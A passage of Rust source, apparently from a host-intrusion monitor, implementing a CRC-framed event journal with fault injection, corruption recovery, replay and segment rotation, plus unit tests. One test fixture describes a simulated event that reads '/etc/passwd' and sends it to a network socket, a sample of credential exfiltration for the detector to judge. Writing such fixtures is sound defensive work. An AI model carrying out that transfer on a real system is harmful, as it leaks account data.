    crc32, read_header_any, write_header_versioned, EventDecoder, EventEncoder, WireError,
    HEADER_LEN, MAX_FRAME_LEN,
};

/// Journal framing version 1: `[len][payload]`, no checksum.
pub const JOURNAL_V1: u8 = 1;

/// Journal framing version 2: `[len][crc32][payload]`.
pub const JOURNAL_V2: u8 = 2;

/// Journal framing version 3: v2 framing, version-2 event payloads
/// (adds the per-transfer byte counter). The default.
pub const JOURNAL_V3: u8 = 3;

/// The wire *event* version carried by a journal framing version.
fn event_version(journal_version: u8) -> u8 {
    if journal_version >= JOURNAL_V3 {
        2
    } else {
        1
    }
}

fn put_varint(out: &mut Vec<u8>, mut v: u64) {
    loop {
        let byte = (v & 0x7f) as u8;
        v >>= 7;
        if v == 0 {
            out.push(byte);
            return;
        }
        out.push(byte | 0x80);
    }
}

/// Writes an event journal to any [`Write`] sink.
pub struct JournalWriter<W: Write> {
    sink: W,
    encoder: EventEncoder,
    scratch: Vec<u8>,
    events: u64,
    bytes: u64,
    version: u8,
    faults: Option<Arc<FaultPlan>>,
    torn: bool,
    injected: Vec<String>,
}

impl<W: Write> JournalWriter<W> {
    /// Starts a v3 (CRC-framed, byte-counting events) journal: writes
    /// the stream header immediately.
    ///
    /// # Errors
    ///
    /// Propagates sink write errors.
    pub fn new(sink: W) -> Result<JournalWriter<W>, WireError> {
        JournalWriter::with_version(sink, JOURNAL_V3)
    }

    /// Starts a journal in the legacy v1 framing (no per-frame CRC).
    /// Exists for compatibility fixtures; new recordings should use
    /// [`JournalWriter::new`].
    ///
    /// # Errors
    ///
    /// Propagates sink write errors.
    pub fn new_v1(sink: W) -> Result<JournalWriter<W>, WireError> {
        JournalWriter::with_version(sink, JOURNAL_V1)
    }

    /// Starts a journal in an explicit framing version (compatibility
    /// fixtures and downgrade paths).
    ///
    /// # Errors
    ///
    /// [`WireError::BadVersion`] for unknown versions, sink write
    /// errors otherwise.
    pub fn with_version(mut sink: W, version: u8) -> Result<JournalWriter<W>, WireError> {
        if !(JOURNAL_V1..=JOURNAL_V3).contains(&version) {
            return Err(WireError::BadVersion(version));
        }
        let mut header = Vec::with_capacity(HEADER_LEN);
        write_header_versioned(&mut header, version);
        sink.write_all(&header)?;
        Ok(JournalWriter {
            sink,
            encoder: EventEncoder::for_version(event_version(version)),
            scratch: Vec::new(),
            events: 0,
            bytes: HEADER_LEN as u64,
            version,
            faults: None,
            torn: false,
            injected: Vec::new(),
        })
    }

    /// Arms deterministic fault injection: future appends consult the
    /// plan (by 0-based event index) and may be bit-flipped or torn.
    pub fn set_faults(&mut self, plan: Arc<FaultPlan>) {
        self.faults = Some(plan);
    }

    /// Appends one event.
    ///
    /// # Errors
    ///
    /// Propagates sink write errors.
    pub fn append(&mut self, event: &SecpertEvent) -> Result<(), WireError> {
        let index = self.events;
        self.events += 1;
        if self.torn {
            // A torn write already ended the journal; later appends go
            // nowhere, exactly like a crashed recorder.
            self.injected.push(format!("event {index}: lost after torn write"));
            return Ok(());
        }
        self.scratch.clear();
        self.encoder.encode(event, &mut self.scratch);
        let mut frame = Vec::with_capacity(self.scratch.len() + 9);
        put_varint(&mut frame, self.scratch.len() as u64);
        if self.version >= JOURNAL_V2 {
            frame.extend_from_slice(&crc32(&self.scratch).to_le_bytes());
        }
        frame.extend_from_slice(&self.scratch);

        let fault = self.faults.as_ref().and_then(|p| p.journal_fault(index));
        match fault {
            Some(JournalFault::FlipBit { bit }) => {
                let bit = (bit % (frame.len() as u64 * 8)) as usize;
                frame[bit / 8] ^= 1 << (bit % 8);
                self.injected.push(format!("event {index}: flipped frame bit {bit}"));
            }
            Some(JournalFault::Truncate { keep }) => {
                let keep = keep.min(frame.len().saturating_sub(1));
                frame.truncate(keep);
                self.torn = true;
                self.injected.push(format!("event {index}: torn write after {keep} bytes"));
            }
            None => {}
        }
        self.sink.write_all(&frame)?;
        self.bytes += frame.len() as u64;
        Ok(())
    }

    /// Events appended so far (including any lost to injected faults).
    pub fn events(&self) -> u64 {
        self.events
    }

    /// Bytes written so far, header included.
    pub fn bytes(&self) -> u64 {
        self.bytes
    }

    /// Human-readable log of every injected fault, in append order.
    pub fn injected_faults(&self) -> &[String] {
        &self.injected
    }

    /// Flushes and returns the sink.
    ///
    /// # Errors
    ///
    /// Propagates sink flush errors.
    pub fn finish(mut self) -> Result<W, WireError> {
        self.sink.flush()?;
        Ok(self.sink)
    }
}

/// Reads an event journal (either framing version) from any [`Read`]
/// source.
pub struct JournalReader<R: Read> {
    source: R,
    decoder: EventDecoder,
    frame: Vec<u8>,
    version: u8,
}

impl<R: Read> JournalReader<R> {
    /// Opens a journal: reads and checks the stream header. Accepts v1
    /// and v2 framing.
    ///
    /// # Errors
    ///
    /// [`WireError::BadMagic`] / [`WireError::BadVersion`] for foreign
    /// streams, i/o and truncation errors otherwise.
    pub fn new(mut source: R) -> Result<JournalReader<R>, WireError> {
        let mut header = [0u8; HEADER_LEN];
        source.read_exact(&mut header).map_err(|e| match e.kind() {
            std::io::ErrorKind::UnexpectedEof => WireError::Truncated,
            _ => WireError::Io(e),
        })?;
        let version = read_header_any(&header)?;
        if !(JOURNAL_V1..=JOURNAL_V3).contains(&version) {
            return Err(WireError::BadVersion(version));
        }
        Ok(JournalReader {
            source,
            decoder: EventDecoder::for_version(event_version(version)),
            frame: Vec::new(),
            version,
        })
    }

    /// The journal's framing version (1, 2 or 3).
    pub fn version(&self) -> u8 {
        self.version
    }

    /// Reads the next event; `Ok(None)` at a clean end of stream.
    ///
    /// # Errors
    ///
    /// Truncated frames, CRC mismatches (v2), malformed payloads and
    /// i/o errors.
    pub fn next_event(&mut self) -> Result<Option<SecpertEvent>, WireError> {
        let len = match self.read_varint()? {
            Some(len) => len,
            None => return Ok(None),
        };
        if len > MAX_FRAME_LEN {
            return Err(WireError::FrameTooLarge(len));
        }
        let len = len as usize;
        let stored_crc = if self.version >= JOURNAL_V2 {
            let mut crc = [0u8; 4];
            self.read_exact(&mut crc)?;
            Some(u32::from_le_bytes(crc))
        } else {
            None
        };
        self.frame.resize(len, 0);
        let mut frame = std::mem::take(&mut self.frame);
        let read = self.read_exact(&mut frame);
        self.frame = frame;
        read?;
        if let Some(stored) = stored_crc {
            let computed = crc32(&self.frame);
            if computed != stored {
                return Err(WireError::Crc { stored, computed });
            }
        }
        let (event, used) = self.decoder.decode(&self.frame)?;
        if used != len {
            // A frame with trailing garbage is as corrupt as a short one.
            return Err(WireError::Truncated);
        }
        Ok(Some(event))
    }

    fn read_exact(&mut self, buf: &mut [u8]) -> Result<(), WireError> {
        self.source.read_exact(buf).map_err(|e| match e.kind() {
            std::io::ErrorKind::UnexpectedEof => WireError::Truncated,
            _ => WireError::Io(e),
        })
    }

    /// Reads a varint byte-by-byte; `None` when the stream ends cleanly
    /// *before* the first byte.
    fn read_varint(&mut self) -> Result<Option<u64>, WireError> {
        let mut value = 0u64;
        let mut shift = 0u32;
        loop {
            let mut byte = [0u8; 1];
            match self.source.read(&mut byte) {
                Ok(0) if shift == 0 => return Ok(None),
                Ok(0) => return Err(WireError::Truncated),
                Ok(_) => {}
                Err(e) if e.kind() == std::io::ErrorKind::Interrupted => continue,
                Err(e) => return Err(WireError::Io(e)),
            }
            if shift >= 64 || (shift == 63 && byte[0] > 1) {
                return Err(WireError::VarintOverflow);
            }
            value |= u64::from(byte[0] & 0x7f) << shift;
            if byte[0] & 0x80 == 0 {
                return Ok(Some(value));
            }
            shift += 7;
        }
    }
}

impl<R: Read> Iterator for JournalReader<R> {
    type Item = Result<SecpertEvent, WireError>;

    fn next(&mut self) -> Option<Result<SecpertEvent, WireError>> {
        self.next_event().transpose()
    }
}

/// How a recovery scan ended.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum RecoveryOutcome {
    /// The journal ended exactly on a frame boundary: nothing lost.
    CleanEof,
    /// The stream ends *inside* a frame — the classic crashed-recorder
    /// shape. Everything before the torn frame is salvaged.
    TornTail,
    /// A complete frame failed its CRC or decode with more bytes behind
    /// it (or a length prefix was itself corrupt): bit rot, not a tear.
    MidStreamCorruption,
    /// The header is missing, foreign, or an unknown version — nothing
    /// salvageable.
    BadHeader,
}

impl std::fmt::Display for RecoveryOutcome {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(match self {
            RecoveryOutcome::CleanEof => "clean EOF",
            RecoveryOutcome::TornTail => "torn tail",
            RecoveryOutcome::MidStreamCorruption => "mid-stream corruption",
            RecoveryOutcome::BadHeader => "bad header",
        })
    }
}

/// Exactly what a recovery scan salvaged and what it had to drop.
#[derive(Clone, Debug)]
pub struct RecoveryReport {
    /// Framing version from the header (0 if the header was unreadable).
    pub version: u8,
    /// Frames decoded successfully (the salvaged prefix).
    pub frames_ok: u64,
    /// Frames lost: exact for a torn tail (the one torn frame); after
    /// mid-stream corruption it is the failing frame plus a best-effort
    /// length-prefix walk of the remainder (framing can no longer be
    /// fully trusted, bytes_dropped is the exact figure).
    pub frames_dropped: u64,
    /// Bytes consumed by the header and the salvaged frames.
    pub bytes_scanned: usize,
    /// Bytes after the salvage point — everything not replayable.
    pub bytes_dropped: usize,
    /// How the scan ended.
    pub outcome: RecoveryOutcome,
    /// The wire error that ended the scan, if any.
    pub error: Option<String>,
}

impl RecoveryReport {
    /// True when nothing was lost.
    pub fn is_clean(&self) -> bool {
        self.outcome == RecoveryOutcome::CleanEof
    }

    /// One-line human summary.
    pub fn render(&self) -> String {
        let mut out = format!(
            "{}: {} frames salvaged, {} dropped, {} bytes dropped",
            self.outcome, self.frames_ok, self.frames_dropped, self.bytes_dropped
        );
        if let Some(e) = &self.error {
            out.push_str(&format!(" ({e})"));
        }
        out
    }
}

/// Parses a varint from `buf[pos..]`; returns `(value, new_pos)`.
/// `Ok(None)` when the buffer ends before the varint does.
fn slice_varint(buf: &[u8], mut pos: usize) -> Result<Option<(u64, usize)>, WireError> {
    let mut value = 0u64;
    let mut shift = 0u32;
    loop {
        let Some(&byte) = buf.get(pos) else { return Ok(None) };
        pos += 1;
        if shift >= 64 || (shift == 63 && byte > 1) {
            return Err(WireError::VarintOverflow);
        }
        value |= u64::from(byte & 0x7f) << shift;
        if byte & 0x80 == 0 {
            return Ok(Some((value, pos)));
        }
        shift += 7;
    }
}

/// Scans a journal byte-for-byte, salvaging every decodable frame from
/// the front and classifying whatever ended the stream. Never fails:
/// the worst input yields zero events and a [`RecoveryOutcome::BadHeader`].
pub fn recover(buf: &[u8]) -> (Vec<SecpertEvent>, RecoveryReport) {
    let mut report = RecoveryReport {
        version: 0,
        frames_ok: 0,
        frames_dropped: 0,
        bytes_scanned: 0,
        bytes_dropped: buf.len(),
        outcome: RecoveryOutcome::BadHeader,
        error: None,
    };
    let version = match read_header_any(buf) {
        Ok(v) if (JOURNAL_V1..=JOURNAL_V3).contains(&v) => v,
        Ok(v) => {
            report.error = Some(WireError::BadVersion(v).to_string());
            return (Vec::new(), report);
        }
        Err(e) => {
            report.error = Some(e.to_string());
            return (Vec::new(), report);
        }
    };
    report.version = version;
    let mut decoder = EventDecoder::for_version(event_version(version));
    let mut events = Vec::new();
    let mut pos = HEADER_LEN;

    let finish = |mut report: RecoveryReport, pos: usize| {
        report.bytes_scanned = pos;
        report.bytes_dropped = buf.len() - pos;
        report
    };

    loop {
        if pos == buf.len() {
            report.outcome = RecoveryOutcome::CleanEof;
            return (events, finish(report, pos));
        }
        // Frame boundary after the length prefix, when the prefix parses:
        // used to count undecodable-but-framed remains after corruption.
        let (len, body_start) = match slice_varint(buf, pos) {
            Ok(Some((len, p))) => (len, p),
            Ok(None) => {
                report.outcome = RecoveryOutcome::TornTail;
                report.frames_dropped = 1;
                report.error = Some(WireError::Truncated.to_string());
                return (events, finish(report, pos));
            }
            Err(e) => {
                report.outcome = RecoveryOutcome::MidStreamCorruption;
                report.frames_dropped = 1;
                report.error = Some(e.to_string());
                return (events, finish(report, pos));
            }
        };
        if len > MAX_FRAME_LEN {
            report.outcome = RecoveryOutcome::MidStreamCorruption;
            report.frames_dropped = 1;
            report.error = Some(WireError::FrameTooLarge(len).to_string());
            return (events, finish(report, pos));
        }
        let crc_len = if version >= JOURNAL_V2 { 4 } else { 0 };
        let payload_start = body_start + crc_len;
        let frame_end = payload_start + len as usize;
        if frame_end > buf.len() || payload_start > buf.len() {
            report.outcome = RecoveryOutcome::TornTail;
            report.frames_dropped = 1;
            report.error = Some(WireError::Truncated.to_string());
            return (events, finish(report, pos));
        }
        let payload = &buf[payload_start..frame_end];
        let failure = if version >= JOURNAL_V2 {
            let stored =
                u32::from_le_bytes(buf[body_start..payload_start].try_into().expect("4 bytes"));
            let computed = crc32(payload);
            if computed != stored {
                Some(WireError::Crc { stored, computed })
            } else {
                None
            }
        } else {
            None
        };
        let failure = match failure {
            Some(e) => Some(e),
            None => match decoder.decode(payload) {
                Ok((event, used)) if used == len as usize => {
                    events.push(event);
                    report.frames_ok += 1;
                    pos = frame_end;
                    continue;
                }
                Ok(_) => Some(WireError::Truncated),
                Err(e) => Some(e),
            },
        };
        // A complete frame was present but unusable: corruption, with a
        // best-effort structural walk of what framing remains.
        report.outcome = RecoveryOutcome::MidStreamCorruption;
        report.error = failure.map(|e| e.to_string());
        report.frames_dropped = 1 + walk_frames(buf, frame_end, version);
        return (events, finish(report, pos));
    }
}

/// Counts structurally plausible frames from `pos` on (length prefixes
/// only — nothing is decoded). Used to estimate losses past a corrupt
/// frame.
fn walk_frames(buf: &[u8], mut pos: usize, version: u8) -> u64 {
    let crc_len = if version >= JOURNAL_V2 { 4 } else { 0 };
    let mut frames = 0;
    while pos < buf.len() {
        match slice_varint(buf, pos) {
            Ok(Some((len, body_start))) if len <= MAX_FRAME_LEN => {
                let end = body_start + crc_len + len as usize;
                if end > buf.len() {
                    return frames + 1; // a final torn frame
                }
                frames += 1;
                pos = end;
            }
            _ => return frames + 1, // unframeable remainder counts once
        }
    }
    frames
}

/// Replay failures: either the journal is bad or the policy is.
#[derive(Debug)]
pub enum ReplayError {
    /// The journal could not be decoded.
    Wire(WireError),
    /// The policy failed while re-processing an event.
    Policy(EngineError),
}

impl std::fmt::Display for ReplayError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            ReplayError::Wire(e) => write!(f, "journal error: {e}"),
            ReplayError::Policy(e) => write!(f, "policy error: {e}"),
        }
    }
}

impl std::error::Error for ReplayError {}

impl From<WireError> for ReplayError {
    fn from(e: WireError) -> ReplayError {
        ReplayError::Wire(e)
    }
}

impl From<EngineError> for ReplayError {
    fn from(e: EngineError) -> ReplayError {
        ReplayError::Policy(e)
    }
}

/// Replays a journal through a Secpert instance, returning the warnings
/// in event order. The expert system sees exactly the event sequence the
/// live session produced, so a replay through an identically-configured
/// policy reproduces the live warning sequence.
///
/// # Errors
///
/// [`ReplayError`] on journal corruption or policy failures.
pub fn replay<R: Read>(
    mut reader: JournalReader<R>,
    secpert: &mut Secpert,
) -> Result<Vec<Warning>, ReplayError> {
    let mut warnings = Vec::new();
    while let Some(event) = reader.next_event()? {
        warnings.extend(secpert.process_event(&event)?);
    }
    Ok(warnings)
}

/// [`replay`], but decoding up to `batch_size` frames into a reusable
/// [`EventBatch`](crate::EventBatch) and feeding the engine one batch
/// at a time. Results are byte-identical to [`replay`] at every batch
/// size (the engine's batch path funnels through the per-event path);
/// `batch_size <= 1` *is* [`replay`].
///
/// # Errors
///
/// [`ReplayError`] on journal corruption or policy failures.
pub fn replay_batched<R: Read>(
    mut reader: JournalReader<R>,
    secpert: &mut Secpert,
    batch_size: usize,
) -> Result<Vec<Warning>, ReplayError> {
    if batch_size <= 1 {
        return replay(reader, secpert);
    }
    let mut warnings = Vec::new();
    let mut batch = crate::batch::EventBatch::with_capacity(batch_size);
    while batch.refill(&mut reader, batch_size)? > 0 {
        warnings.extend(secpert.process_batch(batch.as_slice())?);
    }
    Ok(warnings)
}

/// Replays whatever [`recover`] salvaged from a (possibly corrupt)
/// journal, returning the warnings plus the recovery report. The
/// journal itself can never make this fail — only the policy can.
///
/// # Errors
///
/// [`ReplayError::Policy`] if the engine fails on a salvaged event.
pub fn replay_repair(
    buf: &[u8],
    secpert: &mut Secpert,
) -> Result<(Vec<Warning>, RecoveryReport), ReplayError> {
    replay_repair_batched(buf, secpert, 1)
}

/// [`replay_repair`], feeding the salvaged events to the engine
/// `batch_size` at a time. Identical results at every batch size.
///
/// # Errors
///
/// [`ReplayError::Policy`] if the engine fails on a salvaged event.
pub fn replay_repair_batched(
    buf: &[u8],
    secpert: &mut Secpert,
    batch_size: usize,
) -> Result<(Vec<Warning>, RecoveryReport), ReplayError> {
    let (events, report) = recover(buf);
    let mut warnings = Vec::new();
    if batch_size <= 1 {
        for event in &events {
            warnings.extend(secpert.process_event(event)?);
        }
    } else {
        for run in events.chunks(batch_size) {
            warnings.extend(secpert.process_batch(run)?);
        }
    }
    Ok((warnings, report))
}

/// A journal split across size-bounded segment files, each a complete
/// self-describing journal (own header, own interning table). Rotation
/// bounds the blast radius of corruption: segments after a bad one stay
/// fully replayable.
pub struct SegmentedJournalWriter {
    base: PathBuf,
    max_segment_bytes: u64,
    current: JournalWriter<std::io::BufWriter<std::fs::File>>,
    segment: u32,
    segment_events: u64,
    total_events: u64,
    faults: Option<Arc<FaultPlan>>,
}

/// The path of segment `index` for a journal base path.
pub fn segment_path(base: &Path, index: u32) -> PathBuf {
    let mut name = base.as_os_str().to_os_string();
    name.push(format!(".{index:03}"));
    PathBuf::from(name)
}

/// Every existing segment of a journal base path, in order.
pub fn segment_paths(base: &Path) -> Vec<PathBuf> {
    let mut paths = Vec::new();
    for index in 0..u32::MAX {
        let path = segment_path(base, index);
        if !path.exists() {
            break;
        }
        paths.push(path);
    }
    paths
}

impl SegmentedJournalWriter {
    /// Creates `base.000` and starts writing; rotates whenever the
    /// current segment exceeds `max_segment_bytes`.
    ///
    /// # Errors
    ///
    /// File creation and write errors.
    pub fn create(
        base: &Path,
        max_segment_bytes: u64,
    ) -> Result<SegmentedJournalWriter, WireError> {
        let current = Self::open_segment(base, 0)?;
        Ok(SegmentedJournalWriter {
            base: base.to_path_buf(),
            max_segment_bytes: max_segment_bytes.max(HEADER_LEN as u64 + 1),
            current,
            segment: 0,
            segment_events: 0,
            total_events: 0,
            faults: None,
        })
    }

    fn open_segment(
        base: &Path,
        index: u32,
    ) -> Result<JournalWriter<std::io::BufWriter<std::fs::File>>, WireError> {
        let file = std::fs::File::create(segment_path(base, index))?;
        JournalWriter::new(std::io::BufWriter::new(file))
    }

    /// Arms fault injection on the *current and future* segments.
    /// Fault indices are per-segment (each segment writer counts its
    /// own appends from zero).
    pub fn set_faults(&mut self, plan: Arc<FaultPlan>) {
        self.current.set_faults(Arc::clone(&plan));
        self.faults = Some(plan);
    }

    /// Appends one event, rotating first if the current segment is full.
    ///
    /// # Errors
    ///
    /// File rotation and write errors.
    pub fn append(&mut self, event: &SecpertEvent) -> Result<(), WireError> {
        if self.segment_events > 0 && self.current.bytes() >= self.max_segment_bytes {
            let old = std::mem::replace(
                &mut self.current,
                Self::open_segment(&self.base, self.segment + 1)?,
            );
            old.finish()?;
            self.segment += 1;
            self.segment_events = 0;
            if let Some(plan) = &self.faults {
                self.current.set_faults(Arc::clone(plan));
            }
        }
        self.current.append(event)?;
        self.segment_events += 1;
        self.total_events += 1;
        Ok(())
    }

    /// Total events appended across all segments.
    pub fn events(&self) -> u64 {
        self.total_events
    }

    /// Segments written so far (at least 1).
    pub fn segments(&self) -> u32 {
        self.segment + 1
    }

    /// Flushes and closes the last segment.
    ///
    /// # Errors
    ///
    /// Propagates flush errors.
    pub fn finish(self) -> Result<(), WireError> {
        self.current.finish()?;
        Ok(())
    }
}

/// Replays every segment of a segmented journal in order through one
/// Secpert. Strict: any corruption in any segment is an error (use
/// [`recover_segments`] to salvage instead).
///
/// # Errors
///
/// [`ReplayError`] on missing segments, corruption, or policy failures.
pub fn replay_segments(base: &Path, secpert: &mut Secpert) -> Result<Vec<Warning>, ReplayError> {
    replay_segments_batched(base, secpert, 1)
}

/// [`replay_segments`] with the batched decode path: each segment is
/// replayed through [`replay_batched`], so a batch never spans a
/// segment boundary (segments have independent interning tables).
/// Byte-identical to [`replay_segments`] at every batch size.
///
/// # Errors
///
/// [`ReplayError`] on missing segments, corruption, or policy failures.
pub fn replay_segments_batched(
    base: &Path,
    secpert: &mut Secpert,
    batch_size: usize,
) -> Result<Vec<Warning>, ReplayError> {
    let mut warnings = Vec::new();
    for path in segment_paths(base) {
        let file = std::fs::File::open(&path).map_err(WireError::Io)?;
        let reader = JournalReader::new(std::io::BufReader::new(file))?;
        warnings.extend(replay_batched(reader, secpert, batch_size)?);
    }
    Ok(warnings)
}

/// Recovers every segment of a segmented journal independently: a
/// corrupt segment loses only its own undecodable suffix — later
/// segments have their own headers and interning tables, so the scan
/// continues through them at full fidelity.
///
/// # Errors
///
/// Only i/o errors reading segment files; corruption is reported, not
/// raised.
pub fn recover_segments(
    base: &Path,
) -> Result<(Vec<SecpertEvent>, Vec<RecoveryReport>), std::io::Error> {
    let mut events = Vec::new();
    let mut reports = Vec::new();
    for path in segment_paths(base) {
        let bytes = std::fs::read(&path)?;
        let (segment_events, report) = recover(&bytes);
        events.extend(segment_events);
        reports.push(report);
    }
    Ok((events, reports))
}

#[cfg(test)]
mod tests {
    use super::*;
    use harrier::{Origin, ResourceType, SourceInfo};

    fn event(i: u64) -> SecpertEvent {
        SecpertEvent::ResourceAccess {
            pid: 1,
            syscall: "SYS_open",
            resource: SourceInfo::new(ResourceType::File, format!("/tmp/f{}", i % 3)),
            origin: Origin::unknown(),
            time: i,
            frequency: 1,
            address: 0,
            proc_count: None,
            proc_rate: None,
            mem_total: None,
            server: None,
        }
    }

    fn journal_of(n: u64) -> Vec<u8> {
        let mut writer = JournalWriter::new(Vec::new()).unwrap();
        for i in 0..n {
            writer.append(&event(i)).unwrap();
        }
        writer.finish().unwrap()
    }

    #[test]
    fn write_read_round_trip() {
        let mut writer = JournalWriter::new(Vec::new()).unwrap();
        let events: Vec<SecpertEvent> = (0..10).map(event).collect();
        for e in &events {
            writer.append(e).unwrap();
        }
        assert_eq!(writer.events(), 10);
        let bytes = writer.finish().unwrap();
        let reader = JournalReader::new(&bytes[..]).unwrap();
        assert_eq!(reader.version(), JOURNAL_V3);
        let decoded: Result<Vec<SecpertEvent>, WireError> = reader.collect();
        assert_eq!(decoded.unwrap(), events);
    }

    fn transfer(bytes: u64) -> SecpertEvent {
        SecpertEvent::DataTransfer {
            pid: 1,
            syscall: "SYS_send",
            data_sources: vec![SourceInfo::new(ResourceType::File, "/etc/passwd")],
            data_origin: Origin::unknown(),
            target: SourceInfo::new(ResourceType::Socket, "10.0.0.1:80"),
            target_origin: Origin::unknown(),
            time: 1,
            frequency: 1,
            address: 0,
            executable_content: false,
            server: None,
            bytes,
        }
    }

    #[test]
    fn v3_round_trips_transfer_bytes() {
        let mut writer = JournalWriter::new(Vec::new()).unwrap();
        writer.append(&transfer(4096)).unwrap();
        let bytes = writer.finish().unwrap();
        assert_eq!(bytes[4], JOURNAL_V3);
        let decoded: Vec<SecpertEvent> =
            JournalReader::new(&bytes[..]).unwrap().map(Result::unwrap).collect();
        assert_eq!(decoded, vec![transfer(4096)]);
    }

    #[test]
    fn v2_journal_decodes_transfers_with_zero_bytes() {
        let mut writer = JournalWriter::with_version(Vec::new(), JOURNAL_V2).unwrap();
        writer.append(&transfer(4096)).unwrap();
        let bytes = writer.finish().unwrap();
        let decoded: Vec<SecpertEvent> =
            JournalReader::new(&bytes[..]).unwrap().map(Result::unwrap).collect();
        assert_eq!(decoded, vec![transfer(0)], "v2 event payloads predate the counter");
    }

    #[test]
    fn unknown_journal_version_is_rejected_at_write_time() {
        assert!(matches!(
            JournalWriter::with_version(Vec::new(), 9),
            Err(WireError::BadVersion(9))
        ));
    }

    #[test]
    fn v1_write_read_round_trip() {
        let mut writer = JournalWriter::new_v1(Vec::new()).unwrap();
        let events: Vec<SecpertEvent> = (0..10).map(event).collect();
        for e in &events {
            writer.append(e).unwrap();
        }
        let bytes = writer.finish().unwrap();
        assert_eq!(bytes[4], JOURNAL_V1);
        let reader = JournalReader::new(&bytes[..]).unwrap();
        assert_eq!(reader.version(), JOURNAL_V1);
        let decoded: Result<Vec<SecpertEvent>, WireError> = reader.collect();
        assert_eq!(decoded.unwrap(), events);
    }

    #[test]
    fn truncated_tail_is_an_error_not_a_clean_end() {
        let bytes = journal_of(2);
        let mut reader = JournalReader::new(&bytes[..bytes.len() - 1]).unwrap();
        assert!(reader.next_event().unwrap().is_some());
        assert!(matches!(reader.next_event(), Err(WireError::Truncated)));
    }

    #[test]
    fn flipped_payload_bit_fails_the_crc() {
        let mut bytes = journal_of(2);
        let last = bytes.len() - 1;
        bytes[last] ^= 0x10;
        let mut reader = JournalReader::new(&bytes[..]).unwrap();
        assert!(reader.next_event().unwrap().is_some());
        assert!(matches!(reader.next_event(), Err(WireError::Crc { .. })));
    }

    #[test]
    fn absurd_frame_length_is_rejected_before_allocation() {
        let mut bytes = Vec::new();
        write_header_versioned(&mut bytes, JOURNAL_V2);
        put_varint(&mut bytes, u64::MAX >> 1); // claimed frame of 2^63 bytes
        let mut reader = JournalReader::new(&bytes[..]).unwrap();
        assert!(matches!(reader.next_event(), Err(WireError::FrameTooLarge(_))));
    }

    #[test]
    fn empty_journal_reads_cleanly() {
        let writer = JournalWriter::new(Vec::new()).unwrap();
        let bytes = writer.finish().unwrap();
        let mut reader = JournalReader::new(&bytes[..]).unwrap();
        assert!(reader.next_event().unwrap().is_none());
    }

    #[test]
    fn foreign_stream_is_rejected() {
        assert!(matches!(JournalReader::new(&b"ELF\x7f..."[..]), Err(WireError::BadMagic(_))));
        assert!(matches!(JournalReader::new(&b"HT"[..]), Err(WireError::Truncated)));
        assert!(matches!(JournalReader::new(&b"HTHW\x63.."[..]), Err(WireError::BadVersion(0x63))));
    }

    #[test]
    fn recover_clean_journal_is_lossless() {
        let bytes = journal_of(5);
        let (events_out, report) = recover(&bytes);
        assert_eq!(events_out.len(), 5);
        assert_eq!(report.outcome, RecoveryOutcome::CleanEof);
        assert!(report.is_clean());
        assert_eq!(report.frames_ok, 5);
        assert_eq!(report.frames_dropped, 0);
        assert_eq!(report.bytes_dropped, 0);
        assert_eq!(report.bytes_scanned, bytes.len());
    }

    #[test]
    fn recover_classifies_torn_tail() {
        let bytes = journal_of(4);
        let cut = bytes.len() - 3;
        let (events_out, report) = recover(&bytes[..cut]);
        assert_eq!(events_out.len(), 3);
        assert_eq!(report.outcome, RecoveryOutcome::TornTail);
        assert_eq!(report.frames_ok, 3);
        assert_eq!(report.frames_dropped, 1);
        assert_eq!(report.bytes_scanned + report.bytes_dropped, cut);
    }

    #[test]
    fn recover_classifies_mid_stream_corruption() {
        let plan = Arc::new(FaultPlan::new().flip_bit(1, 60));
        let mut writer = JournalWriter::new(Vec::new()).unwrap();
        writer.set_faults(plan);
        for i in 0..5 {
            writer.append(&event(i)).unwrap();
        }
        assert_eq!(writer.injected_faults().len(), 1);
        let bytes = writer.finish().unwrap();
        let (events_out, report) = recover(&bytes);
        assert_eq!(events_out.len(), 1, "only the prefix before the flip is trustworthy");
        assert_eq!(report.outcome, RecoveryOutcome::MidStreamCorruption);
        assert_eq!(report.frames_ok, 1);
        assert_eq!(report.frames_dropped, 4, "the corrupt frame plus the 3 framed behind it");
        assert!(report.bytes_dropped > 0);
    }

    #[test]
    fn recover_classifies_bad_header() {
        let (events_out, report) = recover(b"not a journal at all");
        assert!(events_out.is_empty());
        assert_eq!(report.outcome, RecoveryOutcome::BadHeader);
        assert_eq!(report.bytes_dropped, 20);
        let (_, short) = recover(b"HT");
        assert_eq!(short.outcome, RecoveryOutcome::BadHeader);
    }

    #[test]
    fn injected_tear_ends_the_journal() {
        let plan = Arc::new(FaultPlan::new().truncate(2, 4));
        let mut writer = JournalWriter::new(Vec::new()).unwrap();
        writer.set_faults(plan);
        for i in 0..6 {
            writer.append(&event(i)).unwrap();
        }
        assert_eq!(writer.events(), 6);
        assert_eq!(writer.injected_faults().len(), 4, "the tear plus 3 lost appends");
        let bytes = writer.finish().unwrap();
        let (events_out, report) = recover(&bytes);
        assert_eq!(events_out.len(), 2);
        assert_eq!(report.outcome, RecoveryOutcome::TornTail);
    }

    #[test]
    fn segments_rotate_and_replay_in_order() {
        let dir = std::env::temp_dir().join("hth-journal-seg-test");
        std::fs::create_dir_all(&dir).unwrap();
        let base = dir.join("seg.hthj");
        for path in segment_paths(&base) {
            std::fs::remove_file(path).unwrap();
        }
        let mut writer = SegmentedJournalWriter::create(&base, 64).unwrap();
        let events: Vec<SecpertEvent> = (0..20).map(event).collect();
        for e in &events {
            writer.append(e).unwrap();
        }
        assert_eq!(writer.events(), 20);
        let segments = writer.segments();
        assert!(segments > 1, "64-byte segments must rotate, got {segments}");
        writer.finish().unwrap();
        assert_eq!(segment_paths(&base).len() as u32, segments);

        let (recovered, reports) = recover_segments(&base).unwrap();
        assert_eq!(recovered, events);
        assert!(reports.iter().all(RecoveryReport::is_clean));
    }

    #[test]
    fn corrupt_segment_loses_only_its_own_suffix() {
        let dir = std::env::temp_dir().join("hth-journal-seg-corrupt");
        std::fs::create_dir_all(&dir).unwrap();
        let base = dir.join("seg.hthj");
        for path in segment_paths(&base) {
            std::fs::remove_file(path).unwrap();
        }
        let mut writer = SegmentedJournalWriter::create(&base, 64).unwrap();
        let events: Vec<SecpertEvent> = (0..20).map(event).collect();
        for e in &events {
            writer.append(e).unwrap();
        }
        let segments = writer.segments();
        assert!(segments >= 3, "need at least 3 segments, got {segments}");
        writer.finish().unwrap();

        // Flip a byte in the middle of segment 1's frame area.
